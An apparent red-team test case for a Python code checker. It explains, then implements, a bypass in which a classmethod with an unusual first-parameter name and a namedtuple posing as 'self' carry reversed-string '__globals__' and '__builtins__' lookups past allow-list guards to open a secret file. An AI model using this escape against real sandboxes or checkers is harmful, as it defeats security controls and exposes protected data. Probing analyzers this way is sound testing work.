# family: red team, round 20 (classes reaching parameters unnoticed; allow-list guards)
# Chain: a classmethod whose first parameter is not named "cls" returns the class; objects._classes_as_values
# only counts names bound to classes or "cls" as class values, so `self` in Reader.fetch is still trusted
# (own_object). k.fetch(box, fn) through a parameter calls the plain function with a namedtuple as self,
# and the class-constant table self.FIELDS is a run-time ["__globals__"].
from collections import namedtuple


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out

    @classmethod
    def kind(klass):
        return klass


Box = namedtuple("Box", "FIELDS")


def call_read(k, obj, fn):
    return k.fetch(obj, fn)


def helper():
    return 1


def run():
    box = Box(["".join(reversed("__slabolg__"))])
    got = call_read(Reader.kind(), box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r20/work/secret.txt").read())


run()
